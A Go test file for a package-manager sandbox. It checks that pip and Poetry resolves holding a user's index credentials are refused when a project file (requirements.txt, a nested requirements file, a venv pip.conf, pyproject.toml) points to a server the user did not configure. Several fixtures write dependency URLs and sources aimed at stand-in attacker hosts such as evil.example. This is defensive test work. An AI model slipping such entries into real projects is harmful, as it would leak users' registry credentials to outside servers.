package managers

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPipCredentialHosts: a pip resolve holding the user's index credentials
// reaches only servers the user configured; a server only a project file names
// (a requirements file, a nested one, the venv's pip.conf) is refused at plan
// time naming the file, line and server. Twins: the same project without
// credentials plans as before; the server named on the command line or in the
// user's pip.conf is the user's and plans.
func TestPipCredentialHosts(t *testing.T) {
	pipSiteConfig = filepath.Join(t.TempDir(), "none")
	const userConf = "[global]\nindex-url = http://pbox:s3cret@127.0.0.1:8081/simple/\n"
	const plainConf = "[global]\nindex-url = http://127.0.0.1:8081/simple/\n"
	tests := []struct {
		name    string
		files   map[string]string // "~/" for the home
		environ []string
		args    []string
		refused []string // substrings of the refusal; nil: plans
	}{
		{"requirements extra index, credentials in pip.conf",
			map[string]string{"~/.config/pip/pip.conf": userConf, "requirements.txt": "pbox-x\n--extra-index-url http://127.0.0.1:9999/simple/\n"},
			nil, []string{"install", "-r", "requirements.txt"}, []string{"requirements.txt:2", "127.0.0.1:9999", "pip config set global.extra-index-url"}},
		{"twin: no credentials anywhere",
			map[string]string{"~/.config/pip/pip.conf": plainConf, "requirements.txt": "pbox-x\n--extra-index-url http://127.0.0.1:9999/simple/\n"},
			nil, []string{"install", "-r", "requirements.txt"}, nil},
		{"twin: the same server on the command line",
			map[string]string{"~/.config/pip/pip.conf": userConf, "requirements.txt": "--extra-index-url http://127.0.0.1:9999/simple/\npbox-x\n"},
			nil, []string{"install", "-r", "requirements.txt", "--extra-index-url", "http://127.0.0.1:9999/other/"}, nil},
		{"twin: requirements naming the user's own index",
			map[string]string{"~/.config/pip/pip.conf": userConf, "requirements.txt": "-i http://127.0.0.1:8081/simple/\npbox-x\n"},
			nil, []string{"install", "-r", "requirements.txt"}, nil},
		{"same host, another port",
			map[string]string{"~/.config/pip/pip.conf": userConf, "requirements.txt": "-f http://127.0.0.1:8082/links/\npbox-x\n"},
			nil, []string{"install", "-r", "requirements.txt"}, []string{"requirements.txt:1", "127.0.0.1:8082"}},
		{"same host, another scheme (another port)",
			map[string]string{"~/.config/pip/pip.conf": "[global]\nindex-url = https://pbox:s3cret@idx.example/simple/\n", "requirements.txt": "x @ http://idx.example/x-1.tar.gz\n"},
			nil, []string{"install", "-r", "requirements.txt"}, []string{"requirements.txt:1", "idx.example:80"}},
		{"a nested requirements file's direct URL with its own userinfo, ~/.netrc",
			map[string]string{"~/.netrc": "machine 127.0.0.1 login pbox password s3cret\n", "requirements.txt": "-r sub/more.txt\n", "sub/more.txt": "# more\ny @ https://them:theirs@evil.example/y-1.tar.gz\n"},
			nil, []string{"install", "-r", "requirements.txt"}, []string{"sub/more.txt:2", "evil.example:443"}},
		{"the venv's pip.conf, credentials in PIP_INDEX_URL",
			map[string]string{".venv/pip.conf": "[global]\nextra-index-url = https://venv.example/simple\n"},
			[]string{"PIP_INDEX_URL=http://pbox:s3cret@127.0.0.1:8081/simple/"}, []string{"install", "x"}, []string{".venv/pip.conf:2", "venv.example:443"}},
		{"PyPI by default is the user's",
			map[string]string{"~/.netrc": "machine pypi.org login pbox password s3cret\n", "requirements.txt": "--index-url https://pypi.org/simple\nx\n"},
			nil, []string{"install", "-r", "requirements.txt"}, nil},
		{"PyPI is not the user's when the user's index replaces it",
			map[string]string{"~/.config/pip/pip.conf": userConf, "requirements.txt": "--extra-index-url https://pypi.org/simple\nx\n"},
			nil, []string{"install", "-r", "requirements.txt"}, []string{"requirements.txt:1", "pypi.org:443"}},
		{"another tool's token is no pip credential",
			map[string]string{"~/.config/pip/pip.conf": plainConf, "requirements.txt": "--extra-index-url http://127.0.0.1:9999/simple/\nx\n"},
			[]string{"CARGO_REGISTRIES_X_TOKEN=s3cret"}, []string{"install", "-r", "requirements.txt"}, nil},
	}
	pip, _ := Lookup("pip")
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{".venv/pyvenv.cfg": "home = /usr/bin\n"}
			home := map[string]string{}
			for k, v := range tc.files {
				if rel, ok := strings.CutPrefix(k, "~/"); ok {
					home[rel] = v
				} else {
					files[k] = v
				}
			}
			env := testEnv(t, files)
			for rel, v := range home {
				writeFile(t, filepath.Join(env.Home, rel), v)
			}
			env.Environ = append(env.Environ, tc.environ...)
			p, err := pip.Plan(tc.args, env)
			if tc.refused == nil {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				if p.Sandbox.Credentials != nil {
					for _, kv := range p.Sandbox.Credentials.Env {
						if !strings.HasPrefix(kv, "PIP_") {
							t.Errorf("pip's credential steps get %s", kv)
						}
					}
				}
				return
			}
			var ref *Refusal
			if !errors.As(err, &ref) {
				t.Fatalf("want a refusal, got %v (egress %v)", err, p.Steps.Resolve.Egress)
			}
			for _, s := range tc.refused {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("the refusal does not name %q: %v", s, err)
				}
			}
			if strings.Contains(err.Error(), "s3cret") || strings.Contains(err.Error(), "theirs") {
				t.Errorf("the refusal shows a password: %v", err)
			}
		})
	}
}

// TestPoetryCredentialHosts: a Poetry resolve holding credentials reaches only the
// servers of the user's Poetry config (and PyPI): a second source, a url or git
// dependency on another server is refused naming pyproject.toml:line, and a source
// kept by name alone (http-basic without repositories.NAME.url) too. Twins: the
// server pinned in the user's config plans; without credentials nothing changes.
func TestPoetryCredentialHosts(t *testing.T) {
	head := "[tool.poetry]\nname = \"p\"\nversion = \"0.1.0\"\n\n[tool.poetry.dependencies]\npython = \"^3.9\"\n"
	private := "\n[[tool.poetry.source]]\nname = \"private\"\nurl = \"http://127.0.0.1:8081/simple/\"\ndefault = true\n"
	mirror := "\n[[tool.poetry.source]]\nname = \"mirror\"\nurl = \"http://127.0.0.1:9999/simple/\"\nsecondary = true\n"
	pin := "[repositories.private]\nurl = \"http://127.0.0.1:8081/simple/\"\n"
	auth := "[http-basic.private]\nusername = \"pbox\"\npassword = \"s3cret\"\n"
	tests := []struct {
		name, pyproject, config, auth string
		environ                       []string
		args                          []string
		refused                       []string
	}{
		{"a second source", head + private + mirror, pin, auth, nil, []string{"lock"},
			[]string{"pyproject.toml:15", "127.0.0.1:9999", "poetry config repositories.mirror http://127.0.0.1:9999/simple/"}},
		{"twin: the second source pinned", head + private + mirror, pin + "[repositories.mirror]\nurl = \"http://127.0.0.1:9999/simple/\"\n", auth, nil, []string{"lock"}, nil},
		{"twin: only the user's source", head + private, pin, auth, nil, []string{"install"}, nil},
		{"twin: no credentials", head + private + mirror, pin, "", nil, []string{"lock"}, nil},
		{"a url dependency, credentials in the environment", head + "x = {url = \"https://them:theirs@files.evil.example/x-1.0.tar.gz\"}\n" + private, pin, "",
			[]string{"POETRY_HTTP_BASIC_PRIVATE_PASSWORD=s3cret"}, []string{"lock"}, []string{"pyproject.toml:7", "files.evil.example:443"}},
		{"a git dependency", head + "y = {git = \"https://git.evil.example/y.git\"}\n" + private, pin, auth, nil, []string{"lock"}, []string{"pyproject.toml:7", "git.evil.example:443"}},
		{"twin: a url on the command line is the user's", head + private, pin, auth, nil, []string{"add", "https://files.example/z-1.0.tar.gz"}, nil},
		{"a source kept by name alone", head + private, "", auth, nil, []string{"lock"},
			[]string{"pyproject.toml:10", "127.0.0.1:8081", "poetry config repositories.private http://127.0.0.1:8081/simple/"}},
		{"twin: pinned by the environment", head + private, "", auth, []string{"POETRY_REPOSITORIES_PRIVATE_URL=http://127.0.0.1:8081/simple/"}, []string{"lock"}, nil},
		{"a token for an unused source is no credential of this step", head + private + mirror, pin, "[http-basic.corp]\nusername = \"c\"\npassword = \"corp\"\n\n[pypi-token]\npypi = \"pypi-x\"\n",
			[]string{"POETRY_HTTP_BASIC_CORP_PASSWORD=corp", "CARGO_REGISTRIES_X_TOKEN=s3cret"}, []string{"lock"}, nil},
		{"nor a password in the URL of an unused source", head + private + mirror, pin + "[repositories.corp]\nurl = \"https://c:corp@corp.example/simple/\"\n", "", nil, []string{"lock"}, nil},
		{"twin: a password in the URL of a used source is", head + private + mirror, "[repositories.private]\nurl = \"http://pbox:s3cret@127.0.0.1:8081/simple/\"\n", "", nil, []string{"lock"},
			[]string{"pyproject.toml:15", "127.0.0.1:9999"}},
	}
	poetry, _ := Lookup("poetry")
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := testEnv(t, map[string]string{"pyproject.toml": tc.pyproject})
			cfg := filepath.Join(env.Home, ".config", "pypoetry")
			if err := os.MkdirAll(cfg, 0o700); err != nil {
				t.Fatal(err)
			}
			if tc.config != "" {
				writeFile(t, filepath.Join(cfg, "config.toml"), tc.config)
			}
			if tc.auth != "" {
				writeFile(t, filepath.Join(cfg, "auth.toml"), tc.auth)
			}
			env.Environ = append(env.Environ, tc.environ...)
			_, err := poetry.Plan(tc.args, env)
			if tc.refused == nil {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			var ref *Refusal
			if !errors.As(err, &ref) {
				t.Fatalf("want a refusal, got %v", err)
			}
			for _, s := range tc.refused {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("the refusal does not name %q: %v", s, err)
				}
			}
			if strings.Contains(err.Error(), "s3cret") || strings.Contains(err.Error(), "theirs") {
				t.Errorf("the refusal shows a password: %v", err)
			}
		})
	}
}
